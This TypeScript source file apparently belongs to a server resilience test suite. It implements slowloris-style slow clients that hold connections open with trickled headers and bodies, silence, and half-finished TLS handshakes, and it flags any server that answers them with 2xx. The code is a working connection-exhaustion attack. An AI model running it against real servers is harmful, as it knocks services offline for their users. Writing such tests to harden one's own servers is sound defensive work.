/**
 * Clients that take a connection and give next to nothing for it (slowloris and its kin): a header or a body that trickles in, a
 * byte a second, silence, silence after the handshake of TLS, and a handshake that stops in the middle.
 */
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import type { Attack } from './attack.ts';

export interface SlowOptions {
  readonly plainUrl: string;
  /** Null where no TLS is spoken. */
  readonly tlsUrl: string | null;
  readonly count: number;
  readonly openPerS: number;
  readonly sources: readonly string[];
  readonly channel: string;
}

interface Sender {
  readonly socket: Socket;
  readonly way: (typeof ways)[number] | 'handshake';
  readonly sinceMs: number;
}

const TICK_MS = 20;
/** In a second each has its turn: they are clients of their own, and do not send at the same moment. */
const TURNS = 1_000 / TICK_MS;
/** The head of a record of 512 bytes with a ClientHello, and no more. */
const HALF_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);

const ways = ['header', 'body', 'silence'] as const;

export class SlowSenders implements Attack {
  readonly #options: SlowOptions;
  readonly #sockets = new Set<Socket>();
  readonly #held = new Set<Sender>();
  /** Those from whom a byte a second follows, by their turn. */
  readonly #trickling = Array.from({ length: TURNS }, () => new Set<Socket>());
  readonly #timer: NodeJS.Timeout;
  #isResting = false;
  #opened = 0;
  #peak = 0;
  #answered2xx = 0;
  readonly #longestMs = { header: 0, body: 0, silence: 0, handshake: 0 };

  constructor(options: SlowOptions) {
    this.#options = options;
    let due = 0;
    let ticks = 0;
    this.#timer = setInterval(() => {
      for (due += options.openPerS / TURNS; due >= 1 && this.#opened < options.count; due--) this.#open(this.#opened++);
      this.#trickle(ticks++ % TURNS);
    }, TICK_MS);
  }

  get figures() {
    return {
      opened: this.#opened,
      held: this.#held.size,
      'held in a body': [...this.#held].filter(({ way }) => way === 'body').length,
      peak: this.#peak,
      'answered 2xx': this.#answered2xx,
      'header, ms': Math.round(this.#longestMs.header),
      'body, ms': Math.round(this.#longestMs.body),
      'silence, ms': Math.round(this.#longestMs.silence),
      'handshake, ms': Math.round(this.#longestMs.handshake),
    };
  }

  async faults(): Promise<readonly string[]> {
    return this.#answered2xx === 0 ? [] : [`${this.#answered2xx} slow senders were answered 2xx`];
  }

  /** No more bytes trickle. */
  rest(): void {
    this.#isResting = true;
  }

  stop(): void {
    clearInterval(this.#timer);
    for (const socket of this.#sockets) socket.destroy();
  }

  #open(index: number): void {
    const { plainUrl, tlsUrl, sources } = this.#options;
    const isTls = tlsUrl !== null && index % 2 === 0;
    const { hostname, port } = new URL(isTls ? tlsUrl : plainUrl);
    const where = { host: hostname, port: Number(port), localAddress: sources[index % sources.length]! };
    const choice = Math.floor(index / 2) % (isTls ? ways.length + 1 : ways.length);
    // Only over TLS there is a fourth.
    const way = ways[choice] ?? 'handshake';
    const isHandshake = way === 'handshake';
    const secure = { ...where, ALPNProtocols: ['http/1.1'], rejectUnauthorized: false };
    const socket = isTls && !isHandshake ? connectTls(secure) : connect(where);
    socket.once(isTls && !isHandshake ? 'secureConnect' : 'connect', () => {
      if (isHandshake) socket.write(HALF_HELLO);
      if (way === 'header' || way === 'body') {
        socket.write(this.#begun(way));
        const turn = this.#trickling[index % TURNS]!;
        turn.add(socket);
        socket.once('close', () => turn.delete(socket));
      }
      this.#hold({ socket, way, sinceMs: performance.now() });
    });
    this.#sockets.add(socket);
    socket.on('error', () => {}).once('close', () => this.#sockets.delete(socket));
    socket.on('data', (bytes) => {
      if (/^HTTP\/1\.1 2/.test(bytes.toString('latin1'))) this.#answered2xx++;
    });
  }

  #begun(way: 'header' | 'body'): string {
    const { channel } = this.#options;
    if (way === 'header') return `POST /c/${channel} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nX: `;
    return `POST /c/${channel} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n`;
  }

  #hold(sender: Sender): void {
    this.#held.add(sender);
    this.#peak = Math.max(this.#peak, this.#held.size);
    sender.socket.once('close', () => {
      this.#held.delete(sender);
      const ms = performance.now() - sender.sinceMs;
      this.#longestMs[sender.way] = Math.max(this.#longestMs[sender.way], ms);
    });
  }

  #trickle(turn: number): void {
    if (this.#isResting) return;
    for (const socket of this.#trickling[turn]!) socket.write('x');
  }
}
